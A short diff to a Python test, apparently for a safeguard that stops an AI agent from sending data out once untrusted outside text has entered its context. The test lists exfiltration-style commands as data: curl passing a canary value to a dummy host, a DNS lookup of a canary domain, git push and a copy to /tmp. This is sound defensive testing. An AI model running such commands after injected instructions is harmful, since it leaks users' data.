@@ -372,9 +372,10 @@ def test_no_dangerous_command_passes_for_a_harmless_one_where_nobody_can_be_aske
 
 
 def test_text_from_outside_takes_the_way_out_away(victim: Victim, tmp_path: Path) -> None:
-    fetch = "curl -s -m 1 http://127.0.0.1:9/issue"
+    elsewhere = "--resolve x.invalid:9:127.0.0.1 http://x.invalid:9"
+    fetch = f"curl -s -m 1 {elsewhere}/issue"
     out = (
-        "curl -s -m 1 http://127.0.0.1:9/?k=canary",
+        f"curl -s -m 1 {elsewhere}/?k=canary",
         "nslookup canary.invalid",
         "git push",
         "cp a.txt /tmp/x",
